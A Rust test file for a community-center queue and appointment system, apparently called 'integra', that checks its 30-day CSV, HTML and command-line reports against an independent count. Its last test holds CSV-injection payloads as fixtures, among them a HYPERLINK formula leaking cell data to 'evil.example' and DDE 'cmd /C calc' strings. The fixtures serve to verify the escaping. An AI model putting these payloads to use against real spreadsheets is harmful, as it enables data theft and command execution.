//! Reports over a generated 30-day history (the real queue made it), checked against a count
//! made here from the events alone; the CSV, the HTML and `integra report` say the same.

use chrono::{NaiveDate, Timelike};
use integra::core::{Catalog, Event, Stamped};
use integra::i18n::Localizer;
use integra::report::{self, render, sample};
use integra::store::Store;
use std::collections::BTreeMap;
use std::sync::Arc;

#[derive(Debug, Clone)]
struct T {
    day: NaiveDate,
    service: String,
    lang: String,
    priority: bool,
    issued: chrono::DateTime<chrono::Utc>,
    called: Option<chrono::DateTime<chrono::Utc>>,
    serving: Option<chrono::DateTime<chrono::Utc>>,
    ended: Option<chrono::DateTime<chrono::Utc>>,
    state: &'static str,
}

/// Nearest rank, written differently from the code under test: with floats.
fn rank(values: &[i64], p: f64) -> Option<u32> {
    if values.is_empty() {
        return None;
    }
    let mut v = values.to_vec();
    v.sort();
    let k = ((p / 100.0) * v.len() as f64).ceil() as usize;
    Some(v[k.max(1) - 1] as u32)
}

#[derive(Debug, Default, PartialEq)]
struct Expect {
    visitors: u32,
    served: u32,
    no_shows: u32,
    cancelled: u32,
    priority: u32,
    wait: (Option<u32>, Option<u32>),
    service: (Option<u32>, Option<u32>),
}

fn expect<'a>(tickets: impl Iterator<Item = &'a T>) -> Expect {
    let list: Vec<&T> = tickets.collect();
    let waits: Vec<i64> = list
        .iter()
        .filter_map(|t| t.called.map(|c| (c - t.issued).num_seconds()))
        .collect();
    let services: Vec<i64> = list
        .iter()
        .filter(|t| t.state == "done")
        .filter_map(|t| {
            let start = t.serving.or(t.called)?;
            Some((t.ended? - start).num_seconds())
        })
        .collect();
    Expect {
        visitors: list.len() as u32,
        served: list.iter().filter(|t| t.state == "done").count() as u32,
        no_shows: list.iter().filter(|t| t.state == "no-show").count() as u32,
        cancelled: list.iter().filter(|t| t.state == "cancelled").count() as u32,
        priority: list.iter().filter(|t| t.priority).count() as u32,
        wait: (rank(&waits, 50.0), rank(&waits, 90.0)),
        service: (rank(&services, 50.0), rank(&services, 90.0)),
    }
}

fn got(g: &report::Group) -> Expect {
    Expect {
        visitors: g.visitors,
        served: g.served,
        no_shows: g.no_shows,
        cancelled: g.cancelled,
        priority: g.priority,
        wait: (g.wait.median, g.wait.p90),
        service: (g.service.median, g.service.p90),
    }
}

/// The tickets, appointments and sign-ups told by the events alone.
#[allow(clippy::type_complexity)]
fn fold(
    events: &[Stamped],
) -> (
    BTreeMap<u64, T>,
    BTreeMap<u64, (String, NaiveDate, &'static str)>,
    BTreeMap<u64, (String, NaiveDate, bool, bool, bool)>,
) {
    let mut tickets = BTreeMap::new();
    let mut appts = BTreeMap::new();
    let mut signups = BTreeMap::new();
    for e in events {
        match &e.event {
            Event::TicketIssued { ticket, .. } => {
                tickets.insert(
                    ticket.id.0,
                    T {
                        day: ticket.day,
                        service: ticket.service.to_string(),
                        lang: ticket.lang.code().to_string(),
                        priority: ticket.priority.is_some(),
                        issued: ticket.issued_at,
                        called: None,
                        serving: None,
                        ended: None,
                        state: "waiting",
                    },
                );
            }
            Event::TicketCalled { ticket, .. } => {
                let t = tickets.get_mut(&ticket.0).expect("issued");
                t.called.get_or_insert(e.at);
                t.state = "called";
            }
            Event::ServingStarted { ticket, .. } => {
                let t = tickets.get_mut(&ticket.0).expect("issued");
                t.serving.get_or_insert(e.at);
                t.state = "serving";
            }
            Event::TicketFinished { ticket, .. } => {
                let t = tickets.get_mut(&ticket.0).expect("issued");
                (t.state, t.ended) = ("done", Some(e.at));
            }
            Event::TicketNoShow { ticket, .. } => {
                let t = tickets.get_mut(&ticket.0).expect("issued");
                (t.state, t.ended) = ("no-show", Some(e.at));
            }
            Event::TicketCancelled { ticket, .. } => {
                let t = tickets.get_mut(&ticket.0).expect("issued");
                (t.state, t.ended) = ("cancelled", Some(e.at));
            }
            Event::AppointmentBooked { appointment: a } => {
                appts.insert(a.id.0, (a.service.to_string(), a.date, "booked"));
            }
            Event::AppointmentCancelled { id } => {
                appts.get_mut(&id.0).expect("booked").2 = "cancelled";
            }
            Event::AppointmentCheckedIn { id, .. } => {
                appts.get_mut(&id.0).expect("booked").2 = "came";
            }
            Event::AppointmentMissed { id } => {
                appts.get_mut(&id.0).expect("booked").2 = "missed";
            }
            Event::SignedUp { signup: s, .. } => {
                signups.insert(
                    s.id.0,
                    (s.activity.to_string(), s.date, s.seated, false, false),
                );
            }
            Event::SignUpCancelled { id } => {
                signups.get_mut(&id.0).expect("signed").3 = true;
            }
            Event::WaitlistPromoted { id } => {
                signups.get_mut(&id.0).expect("signed").2 = true;
            }
            Event::SignUpAttended { id } => {
                signups.get_mut(&id.0).expect("signed").4 = true;
            }
            _ => {}
        }
    }
    (tickets, appts, signups)
}

#[test]
fn a_30_day_report_matches_an_independent_count() {
    let catalog = Arc::new(Catalog::demo().expect("demo"));
    let first = NaiveDate::from_ymd_opt(2026, 2, 2).expect("date");
    let events = sample::generate(catalog.clone(), first, 31, 90, 2026);
    let dir = tempfile::tempdir().expect("dir");
    let mut store = Store::open(dir.path()).expect("store");
    store.commit(0, &events, None).expect("commit");

    let (tickets, appts, signups) = fold(&events);
    // The period: 30 days; day 31 only makes yesterday's rollover happen.
    let (from, to) = (first, first + chrono::Duration::days(29));
    let in_period = |d: NaiveDate| d >= from && d <= to;
    let facts = store.facts(from, to).expect("facts");
    let r = report::compute(&facts, &catalog, from, to);

    let all: Vec<&T> = tickets.values().filter(|t| in_period(t.day)).collect();
    let total = expect(all.iter().copied());
    assert!(total.visitors > 1500, "a real month: {total:?}");
    assert!(total.no_shows > 0 && total.priority > 0 && total.served > 1000);
    assert_eq!(got(&r.total), total);
    let mut services_seen = 0;
    for (code, g) in &r.services {
        let e = expect(all.iter().copied().filter(|t| &t.service == code));
        assert_eq!(got(g), e, "service {code}");
        services_seen += 1;
    }
    let distinct: std::collections::BTreeSet<&str> =
        all.iter().map(|t| t.service.as_str()).collect();
    assert_eq!(services_seen, distinct.len());

    let mut langs: BTreeMap<String, u32> = BTreeMap::new();
    let mut hours = [0u32; 24];
    let mut days: BTreeMap<NaiveDate, u32> = BTreeMap::new();
    for t in &all {
        *langs.entry(t.lang.clone()).or_default() += 1;
        hours[t.issued.with_timezone(&chrono_tz::America::Bogota).hour() as usize] += 1;
        *days.entry(t.day).or_default() += 1;
    }
    assert_eq!(langs.len(), 5, "every language was chosen");
    let got_langs: BTreeMap<String, u32> = r.languages.iter().cloned().collect();
    assert_eq!(got_langs, langs);
    assert!(
        r.languages.windows(2).all(|w| w[0].1 >= w[1].1),
        "most chosen first"
    );
    assert_eq!(r.hours, hours);
    assert_eq!(r.days.len(), 30, "every day of the period, empty ones too");
    for (d, n) in &r.days {
        assert_eq!(*n, days.get(d).copied().unwrap_or(0), "{d}");
    }

    // Appointments whose day is in the period.
    let mut by_service: BTreeMap<String, (u32, u32, u32, u32)> = BTreeMap::new();
    for (service, date, state) in appts.values() {
        if !in_period(*date) {
            continue;
        }
        let e = by_service.entry(service.clone()).or_default();
        match *state {
            "came" => e.0 += 1,
            "missed" => e.1 += 1,
            "cancelled" => e.2 += 1,
            _ => e.3 += 1,
        }
    }
    assert!(by_service.values().any(|e| e.0 > 0 && e.1 > 0 && e.2 > 0));
    assert_eq!(r.appointments.len(), by_service.len());
    for (service, a) in &r.appointments {
        let e = by_service[service];
        assert_eq!(
            (a.checked_in, a.missed, a.cancelled, a.pending),
            e,
            "appointments of {service}"
        );
        let rate = f64::from(e.0) / f64::from(e.0 + e.1);
        assert!((a.show_up_rate().expect("rate") - rate).abs() < 1e-9);
    }
    // Activities: seats taken, waitlist, cancelled, sessions held.
    for row in &r.activities {
        let mine: Vec<_> = signups
            .values()
            .filter(|s| s.0 == row.code && in_period(s.1))
            .collect();
        assert_eq!(row.cancelled, mine.iter().filter(|s| s.3).count() as u32);
        assert_eq!(
            row.seated,
            mine.iter().filter(|s| !s.3 && s.2).count() as u32
        );
        assert_eq!(
            row.waitlist,
            mine.iter().filter(|s| !s.3 && !s.2).count() as u32
        );
        let a = catalog
            .activity(&row.code.as_str().into())
            .expect("activity");
        let sessions = (0..30)
            .filter(|i| a.happens_on(from + chrono::Duration::days(*i)))
            .count() as u32;
        assert_eq!((row.sessions, row.seats), (sessions, sessions * a.seats));
    }
    assert!(r.activities.iter().any(|a| a.seated > 0 && a.cancelled > 0));
    assert!(
        r.activities
            .iter()
            .any(|a| a.attended > 0 && a.attended < a.seated),
        "some came, some did not"
    );

    // A week inside the month counts only its days.
    let (wf, wt) = (
        from + chrono::Duration::days(7),
        from + chrono::Duration::days(13),
    );
    let week = report::compute(&store.facts(wf, wt).expect("facts"), &catalog, wf, wt);
    let e = expect(all.iter().copied().filter(|t| t.day >= wf && t.day <= wt));
    assert_eq!(got(&week.total), e);

    // CSV: the legal service's row says the same, in Spanish (the center's language).
    let es = Localizer::new(integra::core::Lang::Es).expect("es");
    let csv = render::csv(&r, &es, &catalog);
    let legal = expect(all.iter().copied().filter(|t| t.service == "legal"));
    let row = csv
        .lines()
        .find(|l| l.starts_with("Asesoría legal y regularización,"))
        .expect("the legal row");
    let cells: Vec<&str> = row.split(',').collect();
    let minutes = |s: Option<u32>| format!("{:.1}", f64::from(s.expect("some")) / 60.0);
    assert_eq!(cells[1], legal.visitors.to_string());
    assert_eq!(cells[2], legal.served.to_string());
    assert_eq!(cells[3], legal.no_shows.to_string());
    assert_eq!(cells[7], minutes(legal.wait.0));
    assert_eq!(cells[8], minutes(legal.wait.1));
    assert!(csv.contains("\r\nTurnos por hora del día\r\n"));

    // HTML: charts inline, nothing fetched, no script.
    let html = render::html(&r, &es, &catalog);
    assert!(html.matches("<svg").count() >= 4);
    assert!(!html.contains("<script"));
    assert_eq!(
        html.matches("http").count(),
        html.matches("http://www.w3.org/2000/svg").count(),
        "no address but the SVG namespace"
    );
    assert!(html.contains(&format!("<td>{}</td>", legal.visitors)));

    // `integra report` from the data directory prints the same CSV.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_integra"))
        .arg("--data")
        .arg(dir.path())
        .args([
            "report",
            "--from",
            &from.to_string(),
            "--to",
            &to.to_string(),
            "--format",
            "csv",
        ])
        .env_remove("INTEGRA_DATA")
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), csv);
    // A period backwards is a clear usage error.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_integra"))
        .arg("--data")
        .arg(dir.path())
        .args(["report", "--from", "2026-03-01", "--to", "2026-02-01"])
        .env_remove("INTEGRA_DATA")
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("before --from"));
}

/// Nearest rank by definition: the smallest value with at least p % of the values at or below.
fn nearest_rank(values: &[u32], p: usize) -> Option<u32> {
    let mut sorted = values.to_vec();
    sorted.sort_unstable();
    sorted
        .iter()
        .copied()
        .find(|v| sorted.iter().filter(|x| *x <= v).count() * 100 >= p * sorted.len())
}

#[test]
fn a_spread_is_the_nearest_rank_median_and_ninetieth_percentile() {
    let cases: &[(&[u32], Option<u32>, Option<u32>)] = &[
        (&[], None, None),
        (&[7], Some(7), Some(7)),
        (&[5, 1], Some(1), Some(5)),
        (&[3, 1, 2], Some(2), Some(3)),
        (
            &[10, 20, 30, 40, 50, 60, 70, 80, 90, 100],
            Some(50),
            Some(90),
        ),
        (&[4, 4, 4, 1, 4], Some(4), Some(4)),
    ];
    for (values, median, p90) in cases {
        let s = report::Spread::of(values.to_vec());
        assert_eq!(
            (s.count as usize, s.median, s.p90),
            (values.len(), *median, *p90),
            "{values:?}"
        );
    }
}

proptest::proptest! {
    #[test]
    fn a_spread_matches_the_definition(values in proptest::collection::vec(0u32..5_000, 0..400)) {
        let s = report::Spread::of(values.clone());
        proptest::prop_assert_eq!(s.median, nearest_rank(&values, 50));
        proptest::prop_assert_eq!(s.p90, nearest_rank(&values, 90));
        proptest::prop_assert_eq!(s.count as usize, values.len());
    }
}

/// A coordinator who opens a report in a spreadsheet never runs a formula someone typed as a
/// name: every cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
/// leading `'` (OWASP, CSV injection), in the center report and the city reports alike; plain
/// numbers stay numbers.
#[test]
fn report_csv_cells_that_a_spreadsheet_would_run_are_escaped() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB",
    ];
    // The center report: services named by the catalog.
    let mut toml = super::common::TEST_CATALOG.replace(
        "name = { es = \"Información\", en = \"Information\" }",
        &format!(
            "name = {{ es = {}, en = \"Information\" }}",
            toml_string(hostile[0])
        ),
    );
    toml = toml.replace(
        "name = { es = \"Legal\", en = \"Legal\" }",
        &format!(
            "name = {{ es = {}, en = \"Legal\" }}",
            toml_string(hostile[3])
        ),
    );
    let catalog = Catalog::parse(&toml, "test.toml").expect("a catalog with odd names");
    let day = NaiveDate::from_ymd_opt(2026, 1, 5).expect("day");
    let ticket = |service: &str| report::TicketFact {
        day,
        service: service.into(),
        lang: "es".into(),
        priority: false,
        appointment: false,
        issued_at: super::common::monday_9(),
        state: "waiting".into(),
        called_at: None,
        serving_at: None,
        ended_at: None,
    };
    let facts = report::Facts {
        tickets: vec![ticket("info"), ticket("legal")],
        ..Default::default()
    };
    let r = report::compute(&facts, &catalog, day, day);
    let es = Localizer::new(integra::core::Lang::Es).expect("es");
    let csv = render::csv(&r, &es, &catalog);
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1"),
        "{csv}"
    );
    assert!(csv.contains("\r\n'@SUM(1+1)*cmd|' /C calc'!A0,"), "{csv}");
    assert_no_formula(&csv);

    // The city report and the open data: a center's name, services' names.
    let mut c = integra::city::figures::CenterFigures {
        id: "c1".into(),
        name: hostile[1].into(),
        ..Default::default()
    };
    let g = report::Group {
        visitors: 40,
        served: 40,
        ..Default::default()
    };
    for (i, name) in hostile.iter().enumerate() {
        let code = format!("s{i}");
        c.services.push((code.clone(), g.clone()));
        c.names.insert(
            code,
            [(integra::core::Lang::Es, name.to_string())]
                .into_iter()
                .collect(),
        );
    }
    c.total = g;
    let city = integra::city::figures::CityReport {
        from: day,
        to: day,
        centers: vec![c],
        ..Default::default()
    };
    let open = integra::city::render::open_data(&city, integra::core::Lang::Es);
    assert!(open.contains(",c1,'+cmd|' /C calc'!A0,s2,'-2+3,"), "{open}");
    assert!(open.contains(",s4,'\tTAB,"), "{open}");
    assert_no_formula(&open);
    let fr = Localizer::new(integra::core::Lang::Fr).expect("fr");
    let csv = integra::city::render::csv(&city, &fr);
    assert!(csv.contains("'+cmd|' /C calc'!A0"), "{csv}");
    assert_no_formula(&csv);
    // A figure is still a number a spreadsheet can add up.
    assert!(open.contains(",40,40,"), "{open}");
}

/// A TOML basic string.
fn toml_string(s: &str) -> String {
    format!(
        "\"{}\"",
        s.replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\t', "\\t")
    )
}

/// No cell of `csv` starts with what a spreadsheet runs (a quoted cell is read inside its
/// quotes).
fn assert_no_formula(csv: &str) {
    for line in csv.split("\r\n") {
        for cell in line.split(',') {
            let inner = cell.trim_start_matches('"');
            let formula = inner.starts_with(['=', '+', '@', '\t', '\r'])
                || (inner.starts_with('-') && inner.parse::<f64>().is_err());
            assert!(
                !formula,
                "a cell a spreadsheet would run: {cell:?} in {line:?}"
            );
        }
    }
}
